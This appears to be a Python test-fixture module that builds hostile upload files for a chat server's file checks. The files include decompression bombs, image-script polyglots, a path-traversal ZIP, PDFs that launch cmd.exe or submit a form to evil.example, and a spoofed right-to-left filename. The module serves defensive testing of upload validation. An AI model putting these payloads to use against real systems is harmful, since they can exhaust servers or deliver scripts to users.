"""Files that nobody has sent yet, made to break what opens them: each with its name and what may become of it."""

import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image, ImageCms, PngImagePlugin

from chatserver.core.files import limits
from tests.core.documents import object_stream, packed, pdf
from tests.core.pictures import CANARY, SAMPLES, exif, quarters, saved

READY = "ready"
# The only way out is a clean picture or some refusal; which one is not ours to say of bytes that chance made.
ANY = ""
MIB = 1024 * 1024
MARK = CANARY.encode()
HEIC = {name: (SAMPLES / f"{name}.heic").read_bytes() for name in ("turned", "mirrored", "clear", "two")}
# Both would run where a file is opened as what it is not.
SCRIPT = b"<script>alert(1)</script>"
ARCHIVE = b"PK\x03\x04" + bytes(26) + b"../../evil" + b"PK\x05\x06" + bytes(18)


@dataclass(frozen=True)
class Hostile:
    """`means` is `ready`, a code of refusal, or `ANY` of these."""

    label: str
    data: bytes
    means: str = ANY
    name: str = "bild.jpg"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(*chunks: bytes, size: tuple[int, int] = (240, 160), body: bytes | None = None) -> bytes:
    """Black, with these chunks before the picture's own."""
    width, height = size
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    lines = zlib.compress(bytes((1 + 3 * width) * height), 9) if body is None else body
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def with_segments(*segments: bytes) -> bytes:
    """A JPEG that says more before it begins."""
    data = saved(quarters(), "JPEG", quality=90)
    return data[:2] + b"".join(segments) + data[2:]


def many(kind: str) -> bytes:
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green", "blue", "white")]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:])


def hidden_texts() -> bytes:
    """A PNG whose texts are large and one of which swells."""
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", CANARY * 40_000)
    told.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{CANARY}</x:xmpmeta>")
    return saved(quarters(), "PNG", pnginfo=told, exif=exif(6))


def written(picture: Image.Image, kind: str, **options: object) -> Hostile:
    return Hostile(f"{picture.mode} {kind}", saved(picture, kind, **options), READY)


def sizes() -> Iterator[Hostile]:
    yield Hostile("one byte", b"\xff", "not_a_picture")
    yield Hostile("zeros", bytes(4_096), "not_a_picture")
    yield Hostile("as long as may be, of nothing", bytes(limits.MAX_BYTES), "not_a_picture")
    yield Hostile("a picture and 14 MiB behind it", saved(quarters(), "JPEG") + MARK * (14 * MIB // len(MARK)), READY)
    for width, height in ((0, 160), (160, 0), (2**31 - 1, 2**31 - 1), (12_001, 1), (1, 12_001)):
        yield Hostile(f"PNG that says {width} x {height}", png(size=(width, height), body=zlib.compress(bytes(64))))
    frame = segment(0xC0, struct.pack(">BHHB", 8, 65_500, 65_500, 3) + b"\1\x11\0\2\x11\0\3\x11\0")
    yield Hostile("JPEG that says 65500 x 65500", b"\xff\xd8" + frame + bytes(200) + b"\xff\xd9", "too_many_pixels")
    yield Hostile("PNG whose lines swell to 512 MiB", png(body=swollen(512)))
    yield Hostile("PNG of 4000 x 4000 that is all there in 50 kB", png(size=(4_000, 4_000)), READY)


def swollen(mib: int) -> bytes:
    packing = zlib.compressobj(9)
    return b"".join(packing.compress(bytes(MIB)) for _ in range(mib)) + packing.flush()


def told_beside() -> Iterator[Hostile]:
    yield Hostile("PNG with texts", hidden_texts(), READY)
    for name in (b"zTXt", b"iCCP", b"iTXt"):
        head = b"a\0\1\0\0\0" if name == b"iTXt" else b"a\0\0"
        yield Hostile(f"PNG with a {name.decode()} that swells to 128 MiB", png(chunk(name, head + swollen(128))))
    yield Hostile("PNG with a chunk that nobody knows", png(chunk(b"EVIL", MARK)))
    yield Hostile("PNG with ten thousand texts", png(*[chunk(b"tEXt", b"a\0" + MARK)] * 10_000))
    yield Hostile("PNG whose Exif is no Exif", png(chunk(b"eXIf", MARK)), READY)
    long = segment(0xE1, b"Exif\0\0" + MARK * 2_000)
    yield Hostile("JPEG whose Exif is no Exif, many times", with_segments(*[long] * 30), READY)
    around = b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 0x8769, 4, 1, 8, 8)
    yield Hostile("JPEG whose Exif leads back to itself", with_segments(segment(0xE1, around)), READY)
    place = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta exif:GPSLatitude='59,19.7N'>" + MARK
    marks = segment(0xE1, place), segment(0xED, b"Photoshop 3.0\x008BIM" + MARK), segment(0xFE, SCRIPT)
    yield Hostile("JPEG with XMP, IPTC and a script", with_segments(*marks), READY)
    yield Hostile("JPEG with half a profile", with_segments(segment(0xE2, b"ICC_PROFILE\0\1\2" + MARK)), READY)
    for orientation in (0, 9, 65_535):
        yield Hostile(f"held in way {orientation}", saved(quarters(), "JPEG", exif=exif(orientation)), READY)


def colours() -> Iterator[Hostile]:
    four = quarters().convert("CMYK")
    yield written(four, "JPEG", exif=exif(6))
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()
    yield Hostile("CMYK with a profile of other colours", saved(four, "JPEG", icc_profile=profile), READY)
    yield written(quarters().convert("L").convert("I").point(lambda grey: grey * 257).convert("I;16"), "PNG")
    deep = zlib.compress(b"".join(b"\0" + b"\xff\x00\x12\x34\x80\x00" * 240 for _ in range(160)))
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 240, 160, 16, 2, 0, 0, 0))
    yield Hostile("48 bit PNG", b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", deep) + chunk(b"IEND", b""), READY)
    for mode in ("1", "L", "LA", "P", "PA", "RGBA"):
        picture = quarters().convert("RGBA" if mode in ("LA", "PA") else "RGB").convert(mode)
        if mode != "PA":
            yield written(picture, "PNG")
    yield Hostile("PNG of sixteen colours, one of them clear", saved(quarters().quantize(16), "PNG", transparency=3))
    for kind in ("TIFF", "BMP", "GIF", "ICO", "PPM", "TGA", "JPEG2000"):
        yield Hostile(f"a {kind} that is called jpg", saved(quarters(), kind))


def moving() -> Iterator[Hostile]:
    for kind in ("PNG", "WEBP"):
        yield Hostile(f"moving {kind}", many(kind), "animated")
    yield Hostile("moving GIF", many("GIF"), "unsupported_format")
    yield Hostile("HEIC of two", HEIC["two"], "animated")


def strangely_named() -> Iterator[Hostile]:
    """A part of a HEIC whose kind is no text: its decoder's own reader died of it."""
    for label, at, letter in (
        ("kind", b"Exif\0\0\0\0*infe", b"\xbcxif\0\0\0\0*infe"),
        ("type", b"/rdf+xml", b"/\xaadf+xml"),
    ):
        assert HEIC["mirrored"].count(at) == 1
        yield Hostile(f"HEIC with a {label} that is no text", HEIC["mirrored"].replace(at, letter), "damaged")
    part = HEIC["mirrored"].index(b"infe") - 4
    longer = HEIC["mirrored"][:part] + b"\xff\xff" + HEIC["mirrored"][part + 2 :]
    yield Hostile("HEIC with a part longer than what holds it", longer, "damaged")


def of_two_kinds() -> Iterator[Hostile]:
    picture = saved(quarters(), "JPEG", exif=exif(3))
    yield Hostile(
        "JPEG that is a page", with_segments(segment(0xFE, b"*/ --><html>" + SCRIPT)) + SCRIPT, READY, "a.html"
    )
    yield Hostile("JPEG that is an archive", picture + ARCHIVE, READY, "bild.zip")
    yield Hostile("JPEG with a PDF behind it", picture + pdf(b"<</S/JavaScript/JS(1)>>"), READY)
    yield Hostile("PDF with a JPEG in front", b"\xff\xd8\xff" + pdf(b"<</S/JavaScript/JS(1)>>"))
    yield Hostile("page that says it is a GIF", b"GIF89a/*" + SCRIPT + b"*/=1;", "unsupported_format")
    yield Hostile("drawing with a script", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, "unsupported_format")
    yield Hostile("archive", ARCHIVE, "not_a_picture", "bilder.zip")
    yield Hostile("program", b"MZ\x90\0" + bytes(400), "not_a_picture", "bild.jpg.exe")
    yield Hostile("HEIC called jpg", HEIC["turned"], READY, "bild.jpg")
    yield Hostile("PNG called pdf", saved(quarters(), "PNG", exif=exif(8)), READY, "intyg.pdf")
    yield Hostile(
        "name that leads elsewhere", saved(quarters(), "WEBP", exif=exif(5)), READY, "../../etc/\u202egpj.exe"
    )


def documents() -> Iterator[Hostile]:
    for label, root in (
        ("script at its opening", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        ("script by another spelling", b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
        ("program that it starts", b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        ("form that it sends", b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>"),
        ("file inside", b"/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>"),
        ("film", b"/AF[<</Subtype/RichMedia>>]"),
        ("form of XML", b"/AcroForm<</XFA 9 0 R>>"),
    ):
        yield Hostile(f"PDF with a {label}", pdf(root=root), "pdf_active", "intyg.pdf")
    swells = object_stream(b"<</a 1>>" + b" " * (80 * MIB))
    yield Hostile("PDF that swells to 80 MiB", pdf(swells), name="intyg.pdf")
    hidden = object_stream(b"<</S/JavaScript/JS(1)>>")
    yield Hostile("PDF with a script in a packed stream", pdf(hidden), "pdf_active", "intyg.pdf")
    yield Hostile("PDF that is locked", pdf(trailer=b"/Encrypt 9 0 R"), "pdf_locked", "intyg.pdf")
    yield Hostile("PDF of too many pages", pdf(pages=limits.MAX_PAGES + 1), "pdf_too_many_pages", "intyg.pdf")
    yield Hostile("PDF that ends at its head", b"%PDF-1.7\n", "pdf_unreadable", "intyg.pdf")
    yield Hostile("PDF that is all words", pdf(packed(SCRIPT)), READY, "intyg.pdf")


def by_chance(count: int, seed: int) -> Iterator[Hostile]:
    """Good files of each kind, cut or with bytes of them changed."""
    chance = random.Random(seed)
    good = {kind: saved(quarters(), kind, exif=exif(6), quality=80) for kind in ("JPEG", "PNG", "WEBP")}
    good |= {f"HEIC, {name}": data for name, data in HEIC.items()}
    good |= {"progressive JPEG": saved(quarters(), "JPEG", exif=exif(7), progressive=True)}
    good |= {"PDF": pdf(packed(b"BT (Intyg) Tj ET"), pages=3)}
    for number in range(count):
        kind = chance.choice(sorted(good))
        data = bytearray(good[kind])
        if cut := chance.random() < 0.3:
            del data[chance.randrange(len(data)) :]
        else:
            for _ in range(chance.choice((1, 3, 20, 200))):
                data[chance.randrange(len(data))] = chance.randrange(256)
        yield Hostile(f"{kind}, {'cut' if cut else 'changed'}, number {number}", bytes(data) or b"\0")


def all_of_them(by_chance_count: int, seed: int = 5) -> list[Hostile]:
    made = (
        sizes(),
        told_beside(),
        colours(),
        moving(),
        strangely_named(),
        of_two_kinds(),
        documents(),
        by_chance(by_chance_count, seed),
    )
    return [one for some in made for one in some]
